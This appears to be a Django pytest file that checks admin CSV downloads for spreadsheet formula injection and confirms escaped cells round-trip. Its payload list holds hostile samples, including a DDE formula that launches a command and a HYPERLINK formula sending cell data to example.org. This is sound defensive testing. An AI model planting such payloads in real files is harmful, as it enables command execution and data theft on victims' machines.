"""M5: what is downloaded as CSV holds no cell that a spreadsheet would run, and comes back as it was."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import models
from django.urls import reverse

from core.fields import ChoiceSetField
from directory.admin import csv_io
from directory.kinds.registry import kinds
from directory.models import Organization
from tests.builders import make_curator, make_listing

pytestmark = pytest.mark.django_db
PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1-800-555-0100",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u00a0@x",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    "'=1+1",
    "''",
    "'",
    "'quoted'",
    '=HYPERLINK("http://example.org?x="&A1,"open")',
    "|x",
    "%0A=1",
    '"=1+1',
    "plain, with comma; and semicolon",
    "two\r\nlines",
]
FIRST_SIGNS = tuple("=+-@＝＋－＠\t\r\n")


def raw_formulas(text):
    """The cells of a file that a spreadsheet would run, blanks and signs without width before them or not."""
    rows = csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""))
    return [
        cell
        for row in rows
        for cell in row
        if cell.startswith(FIRST_SIGNS) or cell.lstrip(" \t\r\n\u00a0\u200b\ufeff").startswith(FIRST_SIGNS)
    ]


def text_fields(kind):
    """Columns of free text, with how much they hold."""
    found = [kind.model._meta.get_field(name) for name in csv_io.csv_columns(kind)]
    texts = [
        each
        for each in found
        if isinstance(each, models.CharField | models.TextField)
        and not isinstance(each, ChoiceSetField | models.SlugField)
        and not each.choices
    ]
    return [each for each in texts if each.name not in ("country", "zone", "text_language")]


def make_hostile(slug, payload):
    kind = kinds[slug]
    texts = {each.name: payload[: each.max_length] for each in text_fields(kind)}
    return make_listing(slug, organization=Organization.objects.create(name=payload), **texts)


def download(client, slug, listings):
    opts = kinds[slug].model._meta
    page = reverse(f"admin:{opts.app_label}_{opts.model_name}_changelist")
    answer = client.post(page, {"action": "download", "_selected_action": [each.pk for each in listings]})
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    return b"".join(answer.streaming_content).decode()


@pytest.mark.parametrize("slug", kinds)
def test_no_cell_is_a_formula_and_all_round_trip(client, slug):
    make_curator(client)
    listings = [make_hostile(slug, payload) for payload in PAYLOADS]
    assert len(text_fields(kinds[slug])) >= 5
    text = download(client, slug, listings)
    assert raw_formulas(text) == []
    rows = csv_io.parse_csv(text.encode(), kinds[slug])
    assert len(rows) == len(PAYLOADS)
    truth = {each.slug: each for each in listings}
    for row in rows:
        listing = truth[row.cells["slug"]]
        assert row.cells == {
            name: csv_io.cell_text(listing, name) for name in csv_io.csv_columns(kinds[slug])
        }
    preview = csv_io.preview_changes(
        rows, kinds[slug], kinds[slug].model._default_manager.all(), may_publish=True
    )
    assert (preview.differences, preview.problems) == ([], [])


@pytest.mark.parametrize("payload", PAYLOADS)
def test_marked_cell_round_trips(payload):
    assert csv_io.unescape_formula(csv_io.escape_formula(payload)) == payload


@pytest.mark.parametrize("typed", ["'tis the season", "O'Brien", "", "plain"])
def test_only_the_added_mark_is_removed(typed):
    assert csv_io.unescape_formula(typed) == typed


def test_column_names_are_no_formulas():
    for kind in kinds.values():
        assert not [name for name in csv_io.csv_columns(kind) if csv_io.needs_mark(name)]


def test_rule_detects_an_unmarked_cell(client, monkeypatch):
    """The planted fault: cells go out as they are."""
    monkeypatch.setattr(csv_io, "escape_formula", lambda text: text)
    make_curator(client)
    text = download(client, "therapists", [make_hostile("therapists", "=1+1")])
    assert raw_formulas(text)


def test_csv_file_round_trips_through_the_page(client):
    """As a curator does it: download, change one cell, look, apply."""
    make_curator(client)
    listing = make_hostile("therapists", "=1+1")
    text = download(client, "therapists", [listing])
    changed = text.replace('"\'=1+1"', '"\'=2+2"', 1)
    page = reverse("admin:directory_therapist_upload")
    look = client.post(page, {"file": SimpleUploadedFile("a.csv", changed.encode())})
    [difference] = look.context["preview"].differences
    assert difference.changes == {"name": ("=1+1", "=2+2")}
    client.post(page, {"changes": look.context["changes"]})
    listing.refresh_from_db()
    assert (listing.name, listing.summary) == ("=2+2", "=1+1")
